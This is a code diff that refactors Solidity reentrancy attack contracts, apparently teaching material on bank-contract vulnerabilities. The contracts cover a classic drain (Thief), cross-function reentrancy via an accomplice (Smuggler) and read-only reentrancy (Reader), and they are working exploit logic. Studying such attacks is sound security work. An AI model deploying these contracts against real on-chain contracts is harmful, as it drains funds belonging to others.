@@ -9,8 +9,9 @@ interface IBank {
 }
 
 // #region attack
-contract Thief {
-    IBank private immutable BANK;
+/// Deposits and withdraws. Each attacker decides what to do while the bank pays.
+abstract contract Attacker {
+    IBank internal immutable BANK;
 
     constructor(IBank bank) {
         BANK = bank;
@@ -20,27 +21,25 @@ contract Thief {
         BANK.deposit{value: msg.value}();
         BANK.withdraw();
     }
+}
+
+contract Thief is Attacker {
+    constructor(IBank bank) Attacker(bank) {}
 
     receive() external payable {
-        // Called in the middle of withdraw(): our balance is still on the books.
+        // Runs in the middle of withdraw(): the bank has not updated our balance yet.
         if (address(BANK).balance >= msg.value) BANK.withdraw();
     }
 }
 // #endregion attack
 
 // #region second
-/// Enters by another function: moves the balance to an accomplice while it is being paid out.
-contract Smuggler {
-    IBank private immutable BANK;
+/// Enters through another function: it transfers its balance to an accomplice while the bank pays.
+contract Smuggler is Attacker {
     address private immutable ACCOMPLICE;
 
-    constructor(IBank bank, address accomplice) {
-        (BANK, ACCOMPLICE) = (bank, accomplice);
-    }
-
-    function attack() external payable {
-        BANK.deposit{value: msg.value}();
-        BANK.withdraw();
+    constructor(IBank bank, address accomplice) Attacker(bank) {
+        ACCOMPLICE = accomplice;
     }
 
     receive() external payable {
@@ -48,19 +47,11 @@ contract Smuggler {
     }
 }
 
-/// Enters nowhere: it reads what a third contract would see in the middle of the payment.
-contract Reader {
-    IBank private immutable BANK;
+/// Changes nothing: it reads what a third contract would see in the middle of the payment.
+contract Reader is Attacker {
     uint256 public seen = 1;
 
-    constructor(IBank bank) {
-        BANK = bank;
-    }
-
-    function look() external payable {
-        BANK.deposit{value: msg.value}();
-        BANK.withdraw();
-    }
+    constructor(IBank bank) Attacker(bank) {}
 
     receive() external payable {
         seen = BANK.balanceOf(address(this));
